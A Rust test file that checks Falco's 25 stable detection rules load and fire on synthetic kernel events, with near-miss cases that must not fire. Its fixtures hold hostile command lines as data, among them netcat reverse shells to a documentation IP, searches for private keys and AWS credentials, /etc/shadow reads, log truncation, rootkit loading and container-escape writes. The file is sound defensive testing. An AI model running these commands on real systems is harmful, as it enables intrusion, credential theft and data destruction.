//! Falco's own stable rules (`shared/peers/falco_rules.yaml`, a file nobody here wrote) load
//! completely, and each rule fires on the behaviour it describes and not on a near miss.
//!
//! The file is found at `$HABITD_FALCO_RULES`, or next to the workspace at
//! `../shared/peers/falco_rules.yaml`. It is outside data that a fresh clone does not have:
//! without it each test prints `SKIPPED: models::rules::tests_falco::NAME: ...` on standard
//! error, says where it looked, and passes without running.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::sync::OnceLock;

use super::*;

/// The 25 rules of the peer file, in file order.
const FALCO_RULES: [&str; 25] = [
    "Directory traversal monitored file read",
    "Read sensitive file trusted after startup",
    "Read sensitive file untrusted",
    "Run shell untrusted",
    "System user interactive",
    "Terminal shell in container",
    "Contact K8S API Server From Container",
    "Netcat Remote Code Execution in Container",
    "Search Private Keys or Passwords",
    "Clear Log Activities",
    "Remove Bulk Data from Disk",
    "Create Symlink Over Sensitive Files",
    "Create Hardlink Over Sensitive Files",
    "Packet socket created in container",
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "Linux Kernel Module Injection Detected",
    "Debugfs Launched in Privileged Container",
    "Detect release_agent File Container Escapes",
    "PTRACE attached to process",
    "PTRACE anti-debug attempt",
    "Find AWS Credentials",
    "Execution from /dev/shm",
    "Drop and execute new binary in container",
    "Disallowed SSH Connection Non Standard Port",
    "Fileless execution via memfd_create",
];

fn rules_path() -> PathBuf {
    match std::env::var_os("HABITD_FALCO_RULES") {
        Some(p) => PathBuf::from(p),
        None => {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/peers/falco_rules.yaml")
        }
    }
}

/// True (after saying so on standard error) when the rules file is absent: the test returns
/// without running. Written to the process's standard error directly, not through
/// `eprintln!`, so that `cargo test` shows it without `--nocapture`.
fn skip(test: &str) -> bool {
    use std::io::Write as _;
    let path = rules_path();
    if path.is_file() {
        return false;
    }
    let how = if std::env::var_os("HABITD_FALCO_RULES").is_some() {
        "HABITD_FALCO_RULES"
    } else {
        "the default path"
    };
    let _ = writeln!(
        std::io::stderr().lock(),
        "SKIPPED: models::rules::tests_falco::{test}: Falco's rules file not found at {} \
         ({how}); set HABITD_FALCO_RULES=/path/to/falco_rules.yaml or lay \
         shared/peers/falco_rules.yaml next to the workspace",
        path.display()
    );
    true
}

/// The loaded file; call [`skip`] first.
fn loaded() -> &'static (RuleSet, LoadReport) {
    static LOADED: OnceLock<(RuleSet, LoadReport)> = OnceLock::new();
    LOADED.get_or_init(|| RuleSet::load_files(&[rules_path()]))
}

fn falco() -> &'static RuleSet {
    &loaded().0
}

/// The names of the rules that fire on `event`.
fn fired(event: &MapEvent) -> Vec<&'static str> {
    let mut hits = Vec::new();
    falco().matching(event, &mut hits);
    hits.iter().map(|m| m.rule.name()).collect()
}

#[track_caller]
fn assert_only(event: &MapEvent, rule: &str) {
    assert!(
        FALCO_RULES.contains(&rule),
        "not a rule of the file: {rule}"
    );
    assert_eq!(fired(event), [rule], "event: {event:?}");
}

#[track_caller]
fn assert_not(event: &MapEvent, rule: &str) {
    assert!(
        FALCO_RULES.contains(&rule),
        "not a rule of the file: {rule}"
    );
    let hits = fired(event);
    assert!(!hits.contains(&rule), "{rule} fired on {event:?}");
}

const CONTAINER: &str = "3ad7c1e2b9f0";

/// A process started (`execve` returned) in a container, by root, without a terminal.
fn exec(name: &str, exe: &str, args: &str) -> MapEvent {
    let cmdline = if args.is_empty() {
        name.to_owned()
    } else {
        format!("{name} {args}")
    };
    MapEvent::new()
        .with("evt.type", "execve")
        .with("evt.dir", "<")
        .with("evt.res", "SUCCESS")
        .with("evt.rawres", 0)
        .with("evt.arg.flags", "EXE_WRITABLE")
        .with("proc.name", name)
        .with("proc.exe", exe)
        .with("proc.exepath", exe)
        .with("proc.args", args)
        .with("proc.cmdline", cmdline.as_str())
        .with("proc.cwd", "/")
        .with("proc.tty", 0)
        .with("proc.duration", 0)
        .with("proc.pname", "bash")
        .with("proc.aname", vec!["bash", "containerd-shim", "systemd"])
        .with("user.name", "root")
        .with("user.uid", 0)
        .with("user.loginuid", -1)
        .with("container.id", CONTAINER)
        .with("container.image.repository", "docker.io/library/ubuntu")
}

/// A file opened (`openat` returned) for reading by `proc` in a container.
fn open_read(proc: &str, path: &str) -> MapEvent {
    let (dir, file) = path.rsplit_once('/').unwrap();
    exec(proc, &format!("/usr/bin/{proc}"), "")
        .with("evt.type", "openat")
        .with("evt.rawres", 3)
        .with("evt.is_open_read", true)
        .with("evt.is_open_write", false)
        .with("evt.arg.flags", "O_RDONLY")
        .with("fd.typechar", "f")
        .with("fd.type", "file")
        .with("fd.num", 3)
        .with("fd.name", path)
        .with("fd.nameraw", path)
        .with("fd.directory", if dir.is_empty() { "/" } else { dir })
        .with("fd.filename", file)
        .with("proc.duration", 60_000_000_000_i64)
}

/// The same open, for writing with `flags`.
fn open_write(proc: &str, path: &str, flags: &str) -> MapEvent {
    open_read(proc, path)
        .with("evt.is_open_read", false)
        .with("evt.is_open_write", true)
        .with("evt.arg.flags", flags)
}

fn on_host(event: MapEvent) -> MapEvent {
    event
        .with("container.id", "host")
        .with("container.image.repository", "")
}

#[test]
fn all_25_rules_of_falco_load_without_problems() {
    if skip("all_25_rules_of_falco_load_without_problems") {
        return;
    }
    let (set, report) = loaded();
    assert!(
        report.problems().is_empty(),
        "problems loading {}:\n{report}",
        rules_path().display()
    );
    assert_eq!(report.summary(), "loaded 25 of 25 rules");
    assert_eq!(report.rules_skipped(), 0);
    let names: Vec<&str> = set.rules().iter().map(Rule::name).collect();
    assert_eq!(names, FALCO_RULES);
    for rule in set.rules() {
        assert!(rule.is_enabled(), "{} is disabled", rule.name());
        assert!(
            rule.event_types().is_some_and(|t| !t.is_empty()),
            "{} is not indexed by event type",
            rule.name()
        );
    }
    // Every event type is a known syscall: the index sends nothing else to these rules.
    let types = set.event_types().unwrap();
    assert!(types.contains("execve") && types.contains("openat") && types.contains("connect"));
    assert!(!types.contains("read"));
}

#[test]
fn directory_traversal_monitored_file_read() {
    if skip("directory_traversal_monitored_file_read") {
        return;
    }
    let rule = "Directory traversal monitored file read";
    let ev = open_read("php-fpm", "/etc/passwd")
        .with("fd.nameraw", "/var/www/html/../../../etc/passwd")
        .with("proc.pname", "nginx")
        .with("proc.aname", vec!["nginx", "containerd-shim"]);
    assert_only(&ev, rule);
    // A failed open counts too (`open_file_failed`).
    let failed = ev
        .clone()
        .with("evt.is_open_read", true)
        .with("fd.num", -1)
        .with("evt.res", "ENOENT")
        .with("fd.name", "/etc/nonexistent")
        .with("fd.nameraw", "/var/www/../../etc/nonexistent");
    assert_only(&failed, rule);
    assert_not(&open_read("php-fpm", "/etc/passwd"), rule);
    // Launched from a shell: excluded.
    assert_not(&ev.with("proc.pname", "bash"), rule);
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    if skip("read_sensitive_file_trusted_after_startup") {
        return;
    }
    let rule = "Read sensitive file trusted after startup";
    let ev = open_read("nginx", "/etc/shadow").with("proc.pname", "systemd");
    // A server program reading /etc/shadow is also untrusted: Falco raises both.
    assert_eq!(
        fired(&ev),
        [rule, "Read sensitive file untrusted"],
        "event: {ev:?}"
    );
    // At startup (within 5 s) it is expected.
    assert_not(&ev.with("proc.duration", 1_000_000_000), rule);
}

#[test]
fn read_sensitive_file_untrusted() {
    if skip("read_sensitive_file_untrusted") {
        return;
    }
    let rule = "Read sensitive file untrusted";
    assert_only(&open_read("cat", "/etc/shadow"), rule);
    assert_only(&open_read("cat", "/etc/pam.d/common-auth"), rule);
    // Trusted programs: `passwd` comes from a list nested in user_mgmt_binaries; cp run by
    // run-parts is the cmp_cp_by_passwd macro; a process whose name is unknown is skipped.
    assert_not(&open_read("passwd", "/etc/shadow"), rule);
    assert_not(
        &open_read("cp", "/etc/shadow").with("proc.pname", "run-parts"),
        rule,
    );
    assert_not(&open_read("<NA>", "/etc/shadow"), rule);
    assert_not(&open_read("cat", "/etc/hosts"), rule);
}

#[test]
fn run_shell_untrusted() {
    if skip("run_shell_untrusted") {
        return;
    }
    let rule = "Run shell untrusted";
    let ev = exec("sh", "/bin/sh", "-c id")
        .with("proc.pname", "nginx")
        .with("proc.aname", vec!["nginx", "containerd-shim", "systemd"]);
    assert_only(&ev, rule);
    // A grandchild of the web server is still below it (`proc.aname` is any ancestor).
    let deeper = ev
        .clone()
        .with("proc.pname", "php-fpm")
        .with("proc.aname", vec!["php-fpm", "httpd", "containerd-shim"]);
    assert_only(&deeper, rule);
    // Known command lines (quoted list items) and shells below shells are excluded.
    assert_not(
        &ev.clone()
            .with("proc.cmdline", "sh -c uname -a 2>&1")
            .with("proc.args", "-c uname -a 2>&1"),
        rule,
    );
    assert_not(&ev.clone().with("proc.pname", "bash"), rule);
    assert_not(&exec("sh", "/bin/sh", "-c id"), rule);
}

#[test]
fn system_user_interactive() {
    if skip("system_user_interactive") {
        return;
    }
    let rule = "System user interactive";
    let ev = on_host(exec("bash", "/bin/bash", "-i"))
        .with("user.name", "www-data")
        .with("user.uid", 33)
        .with("proc.pname", "sshd")
        .with("proc.aname", vec!["sshd", "sshd", "systemd"]);
    assert_only(&ev, rule);
    assert_not(&ev.with("user.name", "alice"), rule);
}

#[test]
fn terminal_shell_in_container() {
    if skip("terminal_shell_in_container") {
        return;
    }
    let rule = "Terminal shell in container";
    let ev = exec("bash", "/bin/bash", "")
        .with("proc.tty", 34816)
        .with("proc.pname", "runc:[1:CHILD]")
        .with("proc.aname", vec!["runc:[1:CHILD]", "containerd-shim"]);
    assert_only(&ev, rule);
    // `kubectl exec` whose parent already exited: no parent at all.
    let mut orphan = ev.clone();
    orphan.remove("proc.pname");
    orphan.remove("proc.aname");
    assert_only(&orphan, rule);
    assert_not(&ev.clone().with("proc.tty", 0), rule);
    assert_not(&on_host(ev), rule);
}

#[test]
fn contact_k8s_api_server_from_container() {
    if skip("contact_k8s_api_server_from_container") {
        return;
    }
    let rule = "Contact K8S API Server From Container";
    let ev = exec("curl", "/usr/bin/curl", "https://kubernetes.default.svc")
        .with("evt.type", "connect")
        .with("fd.typechar", "4")
        .with("fd.type", "ipv4")
        .with("fd.l4proto", "tcp")
        .with("fd.sip", "10.96.0.1")
        .with("fd.sport", 443)
        .with("fd.sip.name", "kubernetes.default.svc.cluster.local")
        .with("k8s.ns.name", "default")
        .with("k8s.pod.name", "web-7d9f");
    assert_only(&ev, rule);
    assert_not(&ev.clone().with("k8s.ns.name", "kube-system"), rule);
    assert_not(
        &ev.with(
            "container.image.repository",
            "docker.io/falcosecurity/falco",
        ),
        rule,
    );
}

#[test]
fn netcat_remote_code_execution_in_container() {
    if skip("netcat_remote_code_execution_in_container") {
        return;
    }
    let rule = "Netcat Remote Code Execution in Container";
    assert_only(&exec("nc", "/bin/nc", "203.0.113.9 4444 -e /bin/sh"), rule);
    assert_only(
        &exec(
            "ncat",
            "/usr/bin/ncat",
            "--sh-exec 'bash -i' 203.0.113.9 4444",
        ),
        rule,
    );
    assert_not(&exec("nc", "/bin/nc", "-l 8080"), rule);
}

#[test]
fn search_private_keys_or_passwords() {
    if skip("search_private_keys_or_passwords") {
        return;
    }
    let rule = "Search Private Keys or Passwords";
    // icontains: the search is written in lower case.
    assert_only(
        &exec("grep", "/bin/grep", "-ri \"begin rsa private\" /home"),
        rule,
    );
    assert_only(&exec("find", "/usr/bin/find", "/ -name id_ed25519"), rule);
    assert_not(&exec("grep", "/bin/grep", "-r TODO src"), rule);
}

#[test]
fn clear_log_activities() {
    if skip("clear_log_activities") {
        return;
    }
    let rule = "Clear Log Activities";
    let ev = open_write("bash", "/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC");
    assert_only(&ev, rule);
    // By file name alone, anywhere.
    assert_only(
        &open_write("bash", "/srv/app/syslog", "O_WRONLY|O_TRUNC"),
        rule,
    );
    assert_not(
        &open_write("bash", "/var/log/auth.log", "O_WRONLY|O_APPEND"),
        rule,
    );
    assert_not(
        &ev.with(
            "container.image.repository",
            "docker.io/fluent/fluentd-kubernetes-daemonset",
        ),
        rule,
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    if skip("remove_bulk_data_from_disk") {
        return;
    }
    let rule = "Remove Bulk Data from Disk";
    assert_only(&exec("shred", "/usr/bin/shred", "-u /data/db"), rule);
    assert_not(&exec("rm", "/bin/rm", "-rf /data/db"), rule);
}

#[test]
fn create_symlink_over_sensitive_files() {
    if skip("create_symlink_over_sensitive_files") {
        return;
    }
    let rule = "Create Symlink Over Sensitive Files";
    let ev = exec("ln", "/bin/ln", "-s /etc/shadow /tmp/s")
        .with("evt.type", "symlinkat")
        .with("evt.arg.target", "/etc/shadow")
        .with("evt.arg.linkpath", "/tmp/s");
    assert_only(&ev, rule);
    assert_only(&ev.clone().with("evt.arg.target", "/root"), rule);
    assert_not(&ev.with("evt.arg.target", "/tmp/a"), rule);
}

#[test]
fn create_hardlink_over_sensitive_files() {
    if skip("create_hardlink_over_sensitive_files") {
        return;
    }
    let rule = "Create Hardlink Over Sensitive Files";
    let ev = exec("ln", "/bin/ln", "/etc/shadow /tmp/h")
        .with("evt.type", "linkat")
        .with("evt.arg.oldpath", "/etc/shadow")
        .with("evt.arg.newpath", "/tmp/h");
    assert_only(&ev, rule);
    assert_not(&ev.with("evt.arg.oldpath", "/etc/hosts"), rule);
}

#[test]
fn packet_socket_created_in_container() {
    if skip("packet_socket_created_in_container") {
        return;
    }
    let rule = "Packet socket created in container";
    let ev = exec("tcpdump", "/usr/bin/tcpdump", "-i eth0")
        .with("evt.type", "socket")
        .with("evt.arg.domain", "AF_PACKET")
        .with("evt.arg.type", "SOCK_RAW");
    assert_only(&ev, rule);
    assert_not(&ev.clone().with("evt.arg.domain", "AF_INET"), rule);
    assert_not(&on_host(ev), rule);
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    if skip("redirect_stdout_stdin_to_network_connection_in_container") {
        return;
    }
    let rule = "Redirect STDOUT/STDIN to Network Connection in Container";
    let ev = exec("bash", "/bin/bash", "-i")
        .with("evt.type", "dup2")
        .with("evt.rawres", 1)
        .with("fd.type", "ipv4")
        .with("fd.typechar", "4")
        .with("fd.name", "172.17.0.2:40112->203.0.113.9:4444");
    assert_only(&ev, rule);
    assert_not(&ev.clone().with("evt.rawres", 5), rule);
    assert_not(&ev.with("fd.type", "file"), rule);
}

#[test]
fn linux_kernel_module_injection_detected() {
    if skip("linux_kernel_module_injection_detected") {
        return;
    }
    let rule = "Linux Kernel Module Injection Detected";
    let ev = exec("insmod", "/sbin/insmod", "rootkit.ko")
        .with("evt.type", "finit_module")
        .with(
            "thread.cap_effective",
            "CAP_CHOWN CAP_SYS_MODULE CAP_SYS_ADMIN",
        );
    assert_only(&ev, rule);
    assert_not(&ev.clone().with("thread.cap_effective", "CAP_CHOWN"), rule);
    assert_not(&on_host(ev), rule);
}

#[test]
fn debugfs_launched_in_privileged_container() {
    if skip("debugfs_launched_in_privileged_container") {
        return;
    }
    let rule = "Debugfs Launched in Privileged Container";
    let ev = exec("debugfs", "/sbin/debugfs", "/dev/sda1").with("container.privileged", true);
    assert_only(&ev, rule);
    assert_not(&ev.with("container.privileged", false), rule);
}

#[test]
fn detect_release_agent_file_container_escapes() {
    if skip("detect_release_agent_file_container_escapes") {
        return;
    }
    let rule = "Detect release_agent File Container Escapes";
    let ev = open_write("sh", "/tmp/cgrp/release_agent", "O_WRONLY|O_CREAT|O_TRUNC").with(
        "thread.cap_effective",
        "CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN",
    );
    assert_only(&ev, rule);
    // Not root, but able to override file permissions: still an escape attempt.
    assert_only(&ev.clone().with("user.uid", 1000), rule);
    assert_not(
        &ev.with("thread.cap_effective", "CAP_CHOWN CAP_DAC_OVERRIDE"),
        rule,
    );
}

#[test]
fn ptrace_attached_to_process() {
    if skip("ptrace_attached_to_process") {
        return;
    }
    let rule = "PTRACE attached to process";
    let ev = exec("gdb", "/usr/bin/gdb", "-p 1234")
        .with("evt.type", "ptrace")
        .with("evt.arg.request", "PTRACE_ATTACH")
        .with("evt.arg.pid", 1234);
    assert_only(&ev, rule);
    assert_only(&ev.clone().with("evt.arg.request", "PTRACE_POKETEXT"), rule);
    assert_not(&ev.clone().with("evt.arg.request", "PTRACE_PEEKDATA"), rule);
    // The process name is unknown (dropped events): the rule declines.
    assert_not(&ev.with("proc.name", "N/A"), rule);
}

#[test]
fn ptrace_anti_debug_attempt() {
    if skip("ptrace_anti_debug_attempt") {
        return;
    }
    let rule = "PTRACE anti-debug attempt";
    let ev = exec("malware", "/tmp/malware", "")
        .with("evt.type", "ptrace")
        .with("evt.arg.request", "PTRACE_TRACEME");
    assert_only(&ev, rule);
    assert_not(&ev.with("evt.arg.request", "PTRACE_CONT"), rule);
}

#[test]
fn find_aws_credentials() {
    if skip("find_aws_credentials") {
        return;
    }
    let rule = "Find AWS Credentials";
    assert_only(
        &exec("grep", "/bin/grep", "-r AWS_SECRET_ACCESS_KEY /home"),
        rule,
    );
    assert_only(
        &exec("find", "/usr/bin/find", "/ -path */.aws/credentials"),
        rule,
    );
    assert_not(&exec("find", "/usr/bin/find", "/ -name *.log"), rule);
}

#[test]
fn execution_from_dev_shm() {
    if skip("execution_from_dev_shm") {
        return;
    }
    let rule = "Execution from /dev/shm";
    let ev = exec("x", "/dev/shm/x", "");
    assert_only(&ev, rule);
    assert_only(&exec("bash", "/bin/bash", "-c /dev/shm/payload.sh"), rule);
    // Falco's own image, from a list nested in falco_privileged_images, is trusted.
    assert_not(
        &ev.clone().with(
            "container.image.repository",
            "docker.io/falcosecurity/falco",
        ),
        rule,
    );
    assert_not(&exec("x", "/usr/local/bin/x", ""), rule);
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    if skip("drop_and_execute_new_binary_in_container") {
        return;
    }
    let rule = "Drop and execute new binary in container";
    let ev = exec("miner", "/tmp/miner", "").with("proc.is_exe_upper_layer", true);
    assert_only(&ev, rule);
    assert_not(&ev.clone().with("proc.is_exe_upper_layer", false), rule);
    assert_not(&on_host(ev), rule);
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    if skip("disallowed_ssh_connection_non_standard_port") {
        return;
    }
    let rule = "Disallowed SSH Connection Non Standard Port";
    let ev = on_host(exec("ssh", "/usr/bin/ssh", "-p 443 git@203.0.113.10"))
        .with("evt.type", "connect")
        .with("evt.rawres", 0)
        .with("fd.typechar", "4")
        .with("fd.type", "ipv4")
        .with("fd.l4proto", "tcp")
        .with("fd.ip", "203.0.113.10")
        .with("fd.net", "203.0.113.10")
        .with("fd.snet", "203.0.113.10")
        .with("fd.sip", "203.0.113.10")
        .with("fd.sport", 443);
    assert_only(&ev, rule);
    // A non-blocking connect in progress still counts.
    assert_only(
        &ev.clone()
            .with("evt.rawres", -115)
            .with("evt.res", "EINPROGRESS"),
        rule,
    );
    assert_not(&ev.clone().with("fd.sport", 22), rule);
    // A private (RFC 1918) destination is not outbound.
    assert_not(
        &ev.clone()
            .with("fd.ip", "10.1.2.3")
            .with("fd.net", "10.1.2.3")
            .with("fd.snet", "10.1.2.3"),
        rule,
    );
    assert_not(&ev.with("fd.net", "127.0.0.1"), rule);
}

#[test]
fn fileless_execution_via_memfd_create() {
    if skip("fileless_execution_via_memfd_create") {
        return;
    }
    let rule = "Fileless execution via memfd_create";
    let ev = exec("3", "memfd:payload", "").with("proc.is_exe_from_memfd", true);
    assert_only(&ev, rule);
    // runc re-executes itself from a memfd: known and excluded.
    assert_not(
        &ev.clone()
            .with("proc.name", "runc")
            .with("proc.exe", "memfd:runc_cloned:/proc/self/exe"),
        rule,
    );
    assert_not(&ev.with("proc.is_exe_from_memfd", false), rule);
}

#[test]
fn outputs_render_like_falco() {
    if skip("outputs_render_like_falco") {
        return;
    }
    let ev = exec("bash", "/bin/bash", "")
        .with("proc.tty", 34816)
        .with("proc.pname", "runc:[1:CHILD]")
        .with("proc.aname", vec!["runc:[1:CHILD]"]);
    let mut hits = Vec::new();
    falco().matching(&ev, &mut hits);
    assert_eq!(hits.len(), 1);
    assert_eq!(
        hits[0].output,
        "A shell was spawned in a container with an attached terminal | evt_type=execve \
         user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/bin/bash \
         parent=runc:[1:CHILD] command=bash terminal=34816 exe_flags=EXE_WRITABLE"
    );
    assert_eq!(hits[0].rule.priority(), Priority::Notice);
    assert!(hits[0].rule.has_tag("T1059"));
    let fields: Vec<(&str, Option<&str>)> = hits[0]
        .output_fields
        .iter()
        .map(|f| (f.name, f.value.as_deref()))
        .collect();
    assert_eq!(fields[0], ("evt.type", Some("execve")));
    assert_eq!(
        fields.last(),
        Some(&("evt.arg.flags", Some("EXE_WRITABLE")))
    );

    // Missing fields render as <NA>.
    let rule = falco().get("Remove Bulk Data from Disk").unwrap();
    let out = rule.render_output(&exec("shred", "/usr/bin/shred", "x"));
    assert!(
        out.starts_with("Bulk data has been removed from disk | file=<NA> evt_type=execve"),
        "{out}"
    );
}

/// An exec event as the daemon would hold it: plain fields, answered by a `match`.
struct ExecEvent {
    name: &'static str,
    exe: &'static str,
    args: &'static str,
    cmdline: &'static str,
    pname: &'static str,
    ancestors: [&'static str; 3],
}

impl EventFields for ExecEvent {
    fn get(&self, field: Field, arg: Option<&FieldArg>) -> Option<Value<'_>> {
        Some(match field {
            Field::EvtType => Value::str("execve"),
            Field::ProcName => Value::str(self.name),
            Field::ProcExe | Field::ProcExepath => Value::str(self.exe),
            Field::ProcArgs => Value::str(self.args),
            Field::ProcCmdline => Value::str(self.cmdline),
            Field::ProcPname => Value::str(self.pname),
            Field::ProcAname => match arg.and_then(FieldArg::index) {
                Some(0) => Value::str(self.name),
                Some(i) => Value::str(self.ancestors.get(i as usize - 1)?),
                None => Value::List(self.ancestors.iter().map(|a| Value::str(a)).collect()),
            },
            Field::ProcTty => Value::Num(0),
            Field::UserName => Value::str("root"),
            Field::UserUid => Value::Num(0),
            Field::ContainerId => Value::str(CONTAINER),
            Field::ContainerImageRepository => Value::str("docker.io/library/nginx"),
            _ => return None,
        })
    }
}

/// Throughput of the whole rule set on a mix of events; run with `--ignored --nocapture`.
#[test]
#[ignore = "timing, not a check"]
fn throughput() {
    if skip("throughput") {
        return;
    }
    let set = falco();
    let mut hits = Vec::new();
    let shell = ExecEvent {
        name: "sh",
        exe: "/bin/sh",
        args: "-c id",
        cmdline: "sh -c id",
        pname: "nginx",
        ancestors: ["nginx", "containerd-shim", "systemd"],
    };
    let n = 200_000;
    let start = std::time::Instant::now();
    let mut total = 0;
    for _ in 0..n {
        set.matching_rules(&shell, &mut hits);
        total += hits.len();
    }
    println!(
        "struct exec event: {n} events, {total} hits, {:.0} ns/event",
        start.elapsed().as_nanos() as f64 / n as f64
    );

    let events = [
        exec("sh", "/bin/sh", "-c id").with("proc.pname", "nginx"),
        open_read("cat", "/etc/hosts"),
        open_write("bash", "/var/log/app.log", "O_WRONLY|O_APPEND"),
        exec("ls", "/bin/ls", "-l"),
        MapEvent::new().with("evt.type", "read"),
    ];
    let start = std::time::Instant::now();
    let mut total = 0;
    for i in 0..n {
        set.matching_rules(&events[i % events.len()], &mut hits);
        total += hits.len();
    }
    let elapsed = start.elapsed();
    println!(
        "MapEvent mix: {n} events, {total} hits, {:.0} ns/event",
        elapsed.as_nanos() as f64 / n as f64
    );
}
